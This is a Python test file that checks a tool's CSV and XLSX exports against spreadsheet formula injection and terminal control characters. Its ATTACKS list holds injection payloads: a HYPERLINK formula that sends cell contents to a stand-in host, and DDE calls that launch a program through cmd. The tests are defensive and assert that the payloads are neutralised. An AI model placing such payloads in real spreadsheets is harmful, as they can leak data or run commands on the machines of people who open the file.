"""Hardening (issue 11), spreadsheets: every cell m2w writes in a CSV or XLSX file is text unless m2w
computed the number itself; no formula, DDE call or control character gets through; and a control
character in a name no longer stops `compare --xlsx` halfway."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from m2wrun import m2w
from openpyxl import load_workbook

from m2w_tool.answers import Action, Answers, save_answers
from m2w_tool.safetext import cell, is_formula

MINI_DIR = Path(__file__).parent / "data" / "mini"
ATTACKS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]
CONTROLS = "\x00\x01\x07\x1b]0;pwned\x07\x1b[2J\x9b"


def answers_with(name: str, texts: list[str]) -> Answers:
    a = Answers(language="en")
    a.initiative.update(name=name, organisation=texts[0], region=texts[1])
    a.respondent.update(name=texts[2], role="coach")
    for n, qid in enumerate(("d01-q1", "d01-q2", "d02-q1", "d02-q2")):
        answer = a.answer(qid)
        answer.value = 1 + n % 3
        answer.note = texts[n % len(texts)]
        answer.evidence = texts[-1 - n % len(texts)]
    a.dimension("d01-alpha").actions = [Action(t, texts[-1], texts[0]) for t in texts[:3]]
    a.dimension("d02-beta").actions = [Action(texts[3], texts[4], texts[5])]
    return a


def csv_cells(data: bytes, delimiter: str = ",") -> list[str]:
    text = data.decode("utf-8-sig")
    return [value for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for value in row]


def assert_inert_text(values: list[str]) -> None:
    for value in values:
        assert not is_formula(value), repr(value)
        assert not any(ch in value for ch in "\x00\x01\x07\x1b\x9b"), repr(value)


def test_cell_keeps_computed_numbers_and_neutralises_text() -> None:
    assert cell(12) == 12 and cell(-3.5) == -3.5 and cell(None) is None
    assert cell(float("nan")) == "nan" and cell(True) == "True"
    for attack in ATTACKS:
        assert cell(attack).startswith("'") and not is_formula(cell(attack))
    assert cell("Mentor Gent") == "Mentor Gent"
    assert cell("a\x1bb\x00c") == "a\ufffdb\ufffdc"


def test_the_reports_action_plan_csv_holds_no_formula_and_no_control_character(here: Path) -> None:
    a = answers_with("Gent" + CONTROLS, [*ATTACKS, CONTROLS])
    save_answers(a, here / "a.yaml")
    result = m2w("report", "a.yaml", "--format", "html", "--content", MINI_DIR, "--lang", "en", "-o", "out")
    assert result.exit_code == 0, result.output
    sheet = next((here / "out").glob("*-actions.csv"))
    values = csv_cells(sheet.read_bytes())
    assert_inert_text(values)
    assert "'" + ATTACKS[0] in values  # the text itself is all there, marked as text
    html = next((here / "out").glob("*.html")).read_text(encoding="utf-8")
    assert "\x00" not in html and "\x1b" not in html and "\x9b" not in html


def test_portfolio_csv_and_xlsx_hold_no_formula_and_no_control_character(here: Path) -> None:
    folder = here / "answers"
    folder.mkdir()
    for i, attack in enumerate(ATTACKS):
        save_answers(answers_with(attack, [*ATTACKS[i:], *ATTACKS[:i], CONTROLS]), folder / f"{i}.yaml")
    save_answers(answers_with("Name with a control" + CONTROLS, [*ATTACKS, CONTROLS]), folder / "z.yaml")
    result = m2w(
        "compare",
        folder,
        "-o",
        "p.html",
        "--xlsx",
        "p.xlsx",
        "--csv",
        "tables",
        "--content",
        MINI_DIR,
        "--lang",
        "en",
        "-j",
        "1",
    )
    assert result.exit_code == 0, result.output
    for table in (here / "tables").glob("*.csv"):
        assert_inert_text(csv_cells(table.read_bytes()))
    book = load_workbook(here / "p.xlsx")
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
                    assert not any(ch in c.value for ch in "\x00\x01\x07\x1b\x9b"), repr(c.value)
    assert ATTACKS[0] in texts  # stored as text exactly as typed ...
    quoted = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == ATTACKS[0]]
    assert quoted and all(c.quotePrefix for c in quoted)  # ... and Excel keeps it text when edited
    html = (here / "p.html").read_text(encoding="utf-8")
    assert "\x00" not in html and "\x1b" not in html


def test_a_control_character_in_a_name_does_not_stop_compare_halfway(here: Path) -> None:
    folder = here / "answers"
    folder.mkdir()
    save_answers(answers_with("Mentor\x01Gent", ["Stad\x02", "Gent", "Anna\x1b", "x", "y", "z"]), folder / "a.yaml")
    result = m2w("compare", folder, "-o", "p.html", "--xlsx", "p.xlsx", "--content", MINI_DIR, "--lang", "en")
    assert result.exit_code == 0, result.output
    assert "unexpected problem" not in result.output
    names = [row[0].value for row in load_workbook(here / "p.xlsx")["Initiatives"].iter_rows(min_row=2)]
    assert names == ["Mentor\ufffdGent"]
